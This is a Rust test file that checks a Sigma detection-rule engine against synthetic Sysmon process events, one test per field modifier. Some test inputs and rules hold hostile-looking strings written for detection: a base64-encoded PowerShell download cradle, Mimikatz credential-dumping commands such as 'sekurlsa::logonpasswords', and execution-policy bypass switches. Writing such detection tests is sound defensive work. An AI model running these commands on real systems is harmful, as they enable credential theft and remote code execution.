//! Conformance: every field modifier of the Sigma specification (and the spec's edge cases).
//!
//! The events here are inputs written for the spec's cases (a few fields each, in the shape
//! the `evtx` crate renders records to), not captured program output; the real-EVTX checks
//! are in `regression.rs` and `mapping.rs`.

use mamori_sigma::{IssueKind, LoadOptions, RuleSet};
use serde_json::{Map, Value, json};

/// A raw-EVTX-shaped event with these EventData fields (Sysmon 1 unless the fields set
/// Channel/EventID).
fn ev(fields: &[(&str, &str)]) -> Value {
    let mut data = Map::new();
    for (k, v) in fields {
        data.insert((*k).into(), Value::String((*v).into()));
    }
    json!({"Event": {"System": {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}}, "EventData": data}})
}

/// A one-rule set from a detection block (indented YAML under `detection:`).
fn rule(detection: &str) -> RuleSet {
    rule_with(detection, &LoadOptions::default())
}

fn rule_with(detection: &str, opts: &LoadOptions) -> RuleSet {
    let yaml = format!("title: t\nid: 00000000-0000-4000-8000-000000000000\nlogsource:\n    product: windows\n    category: process_creation\ndetection:\n{detection}\nlevel: high\n");
    let (set, issues) = RuleSet::from_sources_with(&[("t.yml".into(), yaml)], opts);
    assert!(issues.iter().all(|i| i.kind == IssueKind::Warning), "{issues:#?}");
    assert_eq!(set.rules().len(), 1);
    set
}

fn fires(set: &RuleSet, e: &Value) -> bool {
    !set.matches(e).is_empty()
}

#[test]
fn plain_value_is_case_insensitive_full_match() {
    let s = rule("    sel:\n        Image: 'C:\\Windows\\System32\\cmd.exe'\n    condition: sel");
    assert!(fires(&s, &ev(&[("Image", "c:\\windows\\system32\\CMD.EXE")])));
    assert!(!fires(&s, &ev(&[("Image", "c:\\windows\\system32\\cmd.exe.bak")])));
}

#[test]
fn contains_startswith_endswith() {
    let s = rule("    sel:\n        CommandLine|contains: 'whoami'\n        Image|startswith: 'C:\\Tools\\'\n        ParentImage|endswith: '\\explorer.exe'\n    condition: sel");
    let good = ev(&[("CommandLine", "cmd /c WHOAMI /all"), ("Image", "c:\\tools\\x.exe"), ("ParentImage", "C:\\Windows\\Explorer.EXE")]);
    assert!(fires(&s, &good));
    let bad = ev(&[("CommandLine", "cmd /c WHOAMI /all"), ("Image", "d:\\c:\\tools\\x.exe"), ("ParentImage", "C:\\Windows\\Explorer.EXE")]);
    assert!(!fires(&s, &bad));
}

#[test]
fn wildcards_and_escapes() {
    // `*` any run, `?` one character.
    let s = rule("    sel:\n        CommandLine: 'a*b?d'\n    condition: sel");
    assert!(fires(&s, &ev(&[("CommandLine", "aXXXbcd")])));
    assert!(!fires(&s, &ev(&[("CommandLine", "aXXXbd")])));
    // `\*` is a literal star.
    let s = rule("    sel:\n        CommandLine: 'x\\*y'\n    condition: sel");
    assert!(fires(&s, &ev(&[("CommandLine", "x*y")])));
    assert!(!fires(&s, &ev(&[("CommandLine", "xABy")])));
    // `\\*` is a literal backslash followed by a wildcard.
    let s = rule("    sel:\n        Image: 'C:\\Temp\\\\*'\n    condition: sel");
    assert!(fires(&s, &ev(&[("Image", "C:\\Temp\\evil.exe")])));
    assert!(!fires(&s, &ev(&[("Image", "C:\\Tempevil.exe")])));
    // A single backslash before a normal character stays a backslash.
    let s = rule("    sel:\n        Image|endswith: '\\cmd.exe'\n    condition: sel");
    assert!(fires(&s, &ev(&[("Image", "C:\\x\\cmd.exe")])));
    assert!(!fires(&s, &ev(&[("Image", "C:\\x\\mycmd.exe")])));
    // `\?` is a literal question mark.
    let s = rule("    sel:\n        CommandLine|endswith: 'really\\?'\n    condition: sel");
    assert!(fires(&s, &ev(&[("CommandLine", "really?")])));
    assert!(!fires(&s, &ev(&[("CommandLine", "reallyX")])));
}

#[test]
fn list_is_or_map_is_and_all_makes_list_and() {
    let s = rule("    sel:\n        CommandLine|contains:\n            - 'alpha'\n            - 'beta'\n        Image|endswith: '.exe'\n    condition: sel");
    assert!(fires(&s, &ev(&[("CommandLine", "x beta"), ("Image", "a.exe")])));
    assert!(!fires(&s, &ev(&[("CommandLine", "x beta"), ("Image", "a.dll")])));
    let s = rule("    sel:\n        CommandLine|contains|all:\n            - 'alpha'\n            - 'beta'\n    condition: sel");
    assert!(fires(&s, &ev(&[("CommandLine", "beta alpha")])));
    assert!(!fires(&s, &ev(&[("CommandLine", "beta only")])));
    // List of maps: OR of the maps.
    let s = rule("    sel:\n        - Image|endswith: '\\a.exe'\n        - CommandLine|contains: ' -e JAB'\n    condition: sel");
    assert!(fires(&s, &ev(&[("Image", "c:\\a.exe"), ("CommandLine", "plain")])));
    assert!(fires(&s, &ev(&[("Image", "c:\\b.exe"), ("CommandLine", "ps -e JABC")])));
    assert!(!fires(&s, &ev(&[("Image", "c:\\b.exe"), ("CommandLine", "plain")])));
}

#[test]
fn cased_is_case_sensitive() {
    let s = rule("    sel:\n        CommandLine|contains|cased: 'AbC'\n    condition: sel");
    assert!(fires(&s, &ev(&[("CommandLine", "xAbCx")])));
    assert!(!fires(&s, &ev(&[("CommandLine", "xabcx")])));
}

#[test]
fn re_with_flags() {
    // `re` is case-sensitive unless `|i`.
    let s = rule("    sel:\n        CommandLine|re: '^cmd\\.exe /c [a-z]+$'\n    condition: sel");
    assert!(fires(&s, &ev(&[("CommandLine", "cmd.exe /c whoami")])));
    assert!(!fires(&s, &ev(&[("CommandLine", "CMD.EXE /c whoami")])));
    let s = rule("    sel:\n        CommandLine|re|i: '^cmd\\.exe /c [a-z]+$'\n    condition: sel");
    assert!(fires(&s, &ev(&[("CommandLine", "CMD.EXE /c WHOAMI")])));
    // `|m`: ^ and $ at line breaks; `|s`: dot matches a newline.
    let s = rule("    sel:\n        CommandLine|re|m: '^second$'\n    condition: sel");
    assert!(fires(&s, &ev(&[("CommandLine", "first\nsecond\nthird")])));
    let s = rule("    sel:\n        CommandLine|re: '^second$'\n    condition: sel");
    assert!(!fires(&s, &ev(&[("CommandLine", "first\nsecond\nthird")])));
    let s = rule("    sel:\n        CommandLine|re|s: 'a.b'\n    condition: sel");
    assert!(fires(&s, &ev(&[("CommandLine", "a\nb")])));
    let s = rule("    sel:\n        CommandLine|re: 'a.b'\n    condition: sel");
    assert!(!fires(&s, &ev(&[("CommandLine", "a\nb")])));
    // Wildcard characters are regex syntax here, not Sigma wildcards.
    let s = rule("    sel:\n        CommandLine|re: 'ab*c'\n    condition: sel");
    assert!(fires(&s, &ev(&[("CommandLine", "ac")])));
}

#[test]
fn base64_and_base64offset() {
    use base64::Engine as _;
    let b64 = |s: &[u8]| base64::engine::general_purpose::STANDARD.encode(s);
    let s = rule("    sel:\n        CommandLine|base64: 'whoami'\n    condition: sel");
    assert!(fires(&s, &ev(&[("CommandLine", &b64(b"whoami"))])));
    assert!(!fires(&s, &ev(&[("CommandLine", &format!("x{}", b64(b"whoami")))])));
    // base64offset|contains: the value at any of the three byte offsets inside a longer text.
    let s = rule("    sel:\n        CommandLine|base64offset|contains: 'http://'\n    condition: sel");
    for prefix in ["", "a", "ab", "abc"] {
        let payload = format!("{prefix}IEX (New-Object Net.WebClient).DownloadString('http://x')");
        assert!(fires(&s, &ev(&[("CommandLine", &format!("powershell -enc {}", b64(payload.as_bytes())))])), "offset {}", prefix.len());
    }
    assert!(!fires(&s, &ev(&[("CommandLine", &b64(b"nothing to see here at all"))])));
}

#[test]
fn utf16_variants_with_base64offset() {
    use base64::Engine as _;
    let b64 = |s: &[u8]| base64::engine::general_purpose::STANDARD.encode(s);
    let le = |s: &str| s.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    let be = |s: &str| s.encode_utf16().flat_map(u16::to_be_bytes).collect::<Vec<u8>>();
    // PowerShell -EncodedCommand is base64 of UTF-16LE.
    for m in ["utf16le", "wide"] {
        let s = rule(&format!("    sel:\n        CommandLine|{m}|base64offset|contains: 'Invoke-Mimikatz'\n    condition: sel"));
        for prefix in ["", "x", "xy"] {
            let enc = b64(&le(&format!("{prefix}Invoke-Mimikatz -Command x")));
            assert!(fires(&s, &ev(&[("CommandLine", &format!("powershell -enc {enc}"))])), "{m} offset {}", prefix.len());
        }
        // The UTF-8 encoding of the same text must not match.
        assert!(!fires(&s, &ev(&[("CommandLine", &b64(b"Invoke-Mimikatz -Command x"))])));
    }
    let s = rule("    sel:\n        CommandLine|utf16be|base64offset|contains: 'Mimikatz'\n    condition: sel");
    assert!(fires(&s, &ev(&[("CommandLine", &b64(&be("Mimikatz!!")))])));
    assert!(!fires(&s, &ev(&[("CommandLine", &b64(&le("Mimikatz!!")))])));
    // utf16: with the byte-order mark (FF FE), as .NET's Encoding.Unicode.GetPreamble gives.
    let s = rule("    sel:\n        CommandLine|utf16|base64offset|contains: 'cmd'\n    condition: sel");
    let mut bom = vec![0xff, 0xfe];
    bom.extend(le("cmd /c"));
    assert!(fires(&s, &ev(&[("CommandLine", &b64(&bom))])));
}

#[test]
fn windash_accepts_every_dash() {
    let s = rule("    sel:\n        CommandLine|windash|contains: ' -exec bypass'\n    condition: sel");
    for d in ["-", "/", "\u{2013}", "\u{2014}", "\u{2015}"] {
        assert!(fires(&s, &ev(&[("CommandLine", &format!("powershell {d}exec bypass"))])), "dash {d:?}");
    }
    assert!(!fires(&s, &ev(&[("CommandLine", "powershell +exec bypass")])));
    // A dash inside a word is not a switch: not varied.
    let s = rule("    sel:\n        CommandLine|windash|contains: 'x-ray'\n    condition: sel");
    assert!(fires(&s, &ev(&[("CommandLine", "x-ray")])));
    assert!(!fires(&s, &ev(&[("CommandLine", "x/ray")])));
    // Modifier order contains|windash works the same.
    let s = rule("    sel:\n        CommandLine|contains|windash: ' -enc '\n    condition: sel");
    assert!(fires(&s, &ev(&[("CommandLine", "powershell /enc AAA")])));
}

#[test]
fn cidr_ipv4_and_ipv6() {
    let s = rule("    sel:\n        DestinationIp|cidr:\n            - '10.0.0.0/8'\n            - 'fe80::/10'\n    condition: sel");
    assert!(fires(&s, &ev(&[("DestinationIp", "10.1.2.3")])));
    assert!(fires(&s, &ev(&[("DestinationIp", "fe80::1c2a:3b4c")])));
    assert!(fires(&s, &ev(&[("DestinationIp", "::ffff:10.9.9.9")])), "IPv4-mapped IPv6");
    assert!(!fires(&s, &ev(&[("DestinationIp", "11.1.2.3")])));
    assert!(!fires(&s, &ev(&[("DestinationIp", "2001:db8::1")])));
    assert!(!fires(&s, &ev(&[("DestinationIp", "not an ip")])));
}

#[test]
fn exists_true_and_false() {
    let s = rule("    sel:\n        OriginalFileName|exists: true\n    condition: sel");
    assert!(fires(&s, &ev(&[("OriginalFileName", "")])), "present but empty still exists");
    assert!(!fires(&s, &ev(&[("Image", "x")])));
    let s = rule("    sel:\n        OriginalFileName|exists: false\n    condition: sel");
    assert!(fires(&s, &ev(&[("Image", "x")])));
    assert!(!fires(&s, &ev(&[("OriginalFileName", "a.exe")])));
}

#[test]
fn fieldref_compares_two_fields() {
    let s = rule("    sel:\n        ParentImage|fieldref: Image\n    condition: sel");
    assert!(fires(&s, &ev(&[("Image", "C:\\a.exe"), ("ParentImage", "c:\\A.EXE")])));
    assert!(!fires(&s, &ev(&[("Image", "C:\\a.exe"), ("ParentImage", "C:\\b.exe")])));
    assert!(!fires(&s, &ev(&[("ParentImage", "C:\\b.exe")])), "the referenced field is missing");
    let s = rule("    sel:\n        CommandLine|fieldref|contains: User\n    condition: sel");
    assert!(fires(&s, &ev(&[("CommandLine", "net user alice /add"), ("User", "Alice")])));
}

#[test]
fn numeric_comparisons() {
    let s = rule("    sel:\n        LogonType|lt: 3\n    condition: sel");
    assert!(fires(&s, &ev(&[("LogonType", "2")])));
    assert!(!fires(&s, &ev(&[("LogonType", "3")])));
    assert!(!fires(&s, &ev(&[("LogonType", "x")])), "not a number");
    let s = rule("    sel:\n        LogonType|lte: 3\n    condition: sel");
    assert!(fires(&s, &ev(&[("LogonType", "3")])));
    let s = rule("    sel:\n        Size|gt: 1000\n    condition: sel");
    assert!(fires(&s, &ev(&[("Size", "1000.5")])));
    assert!(fires(&s, &ev(&[("Size", "0x400")])), "hex as Windows writes it");
    assert!(!fires(&s, &ev(&[("Size", "999")])));
    let s = rule("    sel:\n        Size|gte: 1000\n    condition: sel");
    assert!(fires(&s, &ev(&[("Size", "1000")])));
    // Numbers in a plain value match their text (EventID: 4688).
    let s = rule("    sel:\n        Size: 42\n    condition: sel");
    assert!(fires(&s, &ev(&[("Size", "42")])));
    assert!(!fires(&s, &ev(&[("Size", "420")])));
}

#[test]
fn null_matches_missing_or_empty() {
    let s = rule("    sel:\n        Image|endswith: '.exe'\n    filter:\n        OriginalFileName: null\n    condition: sel and not filter");
    assert!(fires(&s, &ev(&[("Image", "a.exe"), ("OriginalFileName", "a.exe")])));
    assert!(!fires(&s, &ev(&[("Image", "a.exe"), ("OriginalFileName", "")])));
    assert!(!fires(&s, &ev(&[("Image", "a.exe")])));
    // An empty string value matches only an empty field.
    let s = rule("    sel:\n        OriginalFileName: ''\n    condition: sel");
    assert!(fires(&s, &ev(&[("OriginalFileName", "")])));
    assert!(!fires(&s, &ev(&[("Image", "a.exe")])));
}

#[test]
fn missing_field_does_not_match_and_not_inverts_that() {
    let s = rule("    sel:\n        Image|endswith: '.exe'\n    filter:\n        ParentImage|endswith: '\\explorer.exe'\n    condition: sel and not filter");
    // ParentImage missing: `filter` does not match, so `not filter` holds.
    assert!(fires(&s, &ev(&[("Image", "a.exe")])));
    assert!(!fires(&s, &ev(&[("Image", "a.exe"), ("ParentImage", "C:\\Windows\\explorer.exe")])));
    // A missing field never matches a value, not even a wildcard.
    let s = rule("    sel:\n        ParentImage: '*'\n    condition: sel");
    assert!(!fires(&s, &ev(&[("Image", "a.exe")])));
    assert!(fires(&s, &ev(&[("ParentImage", "")])));
}

#[test]
fn keywords_search_every_value() {
    let s = rule("    keywords:\n        - 'mimikatz'\n        - 'sekurlsa'\n    condition: keywords");
    assert!(fires(&s, &ev(&[("CommandLine", "run MIMIKATZ.exe")])));
    assert!(fires(&s, &ev(&[("SomeUnmappedField", "x sekurlsa::logonpasswords")])));
    assert!(!fires(&s, &ev(&[("CommandLine", "notepad")])));
    let s = rule("    keywords:\n        '|all':\n            - 'privilege'\n            - 'debug'\n    condition: keywords");
    assert!(fires(&s, &ev(&[("A", "privilege::debug")])));
    assert!(!fires(&s, &ev(&[("A", "privilege::elevate")])));
}

#[test]
fn guids_are_case_insensitive_and_padding_is_kept() {
    let s = rule("    sel:\n        ProviderGuid: '{54849625-5478-4994-A5BA-3E3B0328C30D}'\n    condition: sel");
    assert!(fires(&s, &ev(&[("ProviderGuid", "{54849625-5478-4994-a5ba-3e3b0328c30d}")])));
    // Windows pads some values ("NtLmSsp "): the padding is part of the value.
    let s = rule("    sel:\n        LogonProcessName: 'NtLmSsp '\n    condition: sel");
    assert!(fires(&s, &ev(&[("LogonProcessName", "NtLmSsp ")])));
    assert!(!fires(&s, &ev(&[("LogonProcessName", "NtLmSsp")])));
}

#[test]
fn expand_uses_configured_placeholders_else_reports() {
    let yaml = "title: t\nid: 11111111-0000-4000-8000-000000000000\nlogsource:\n    product: windows\n    category: process_creation\ndetection:\n    sel:\n        Computer|expand: '%admin_hosts%'\n    condition: sel\n";
    let (set, issues) = RuleSet::from_sources(&[("x.yml".into(), yaml.into())]);
    assert_eq!(set.rules().len(), 0);
    let i = issues.iter().find(|i| i.kind == IssueKind::Unsupported).expect("reported");
    assert_eq!(i.rule_id.as_deref(), Some("11111111-0000-4000-8000-000000000000"));
    assert!(i.message.contains("admin_hosts"), "{i}");
    let mut opts = LoadOptions::default();
    opts.placeholders.insert("admin_hosts".into(), vec!["ADM-01".into(), "adm-*".into()]);
    let (set, _) = RuleSet::from_sources_with(&[("x.yml".into(), yaml.into())], &opts);
    let e = |c: &str| json!({"Event": {"System": {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "Computer": c}, "EventData": {}}});
    assert!(fires(&set, &e("adm-01")));
    assert!(fires(&set, &e("ADM-99")));
    assert!(!fires(&set, &e("ws-01")));
}
